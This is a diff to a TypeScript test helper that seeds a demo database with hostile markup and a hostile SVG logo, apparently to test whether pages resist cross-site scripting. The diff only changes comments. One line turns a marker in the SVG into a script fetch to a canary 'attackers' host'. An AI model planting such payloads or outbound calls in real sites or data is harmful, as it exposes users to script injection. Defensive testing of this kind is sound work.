@@ -10,12 +10,12 @@ import {
 } from '@bidboard/backend/testing/hostile-markup';
 import type { TestDatabase } from '@bidboard/backend/testing/test-database';
 
-/** What of the demo is looked at. */
+/** The part of the demo that the tests visit. */
 export interface PoisonedDemo {
   live: string;
   draft: string;
   products: readonly string[];
-  /** Under which the drawing is served. */
+  /** The hash under which the drawing is served. */
   logoHash: string;
 }
 
@@ -28,8 +28,8 @@ const anyOf = (key: string) =>
   sql.fragment`(${names()})[1 + abs(hashtext(${sql.identifier([key])}::text)) % ${nameAttacks.length}::int4]`;
 
 /**
- * Writes attacks into every text of the demo that pages show: past the commands, so that nothing between table and page but
- * the pages themselves keeps them from running.
+ * Writes attacks into every text of the demo that pages show. It bypasses the commands, so the pages themselves are the only
+ * defence between table and screen.
  */
 export async function poison({ database, url }: TestDatabase): Promise<PoisonedDemo> {
   const rich = wireOf(hostileMarkdown);
@@ -67,7 +67,7 @@ async function write(database: Database, rich: string, live: string): Promise<vo
     await database.query(statement);
 }
 
-/** Every drawing of the catalogue becomes the hostile one, whose scripts ask the attackers' host. */
+/** Replaces every drawing of the catalogue with the hostile one, whose scripts contact the attackers' host. */
 async function drawLogos(database: Database): Promise<string> {
   const drawing = hostileDrawing().replaceAll('__ran=1', `fetch('https://${canaryHost}/ran')`);
   await database.query(sql.statement`update catalogue_logo set svg = ${drawing}`);
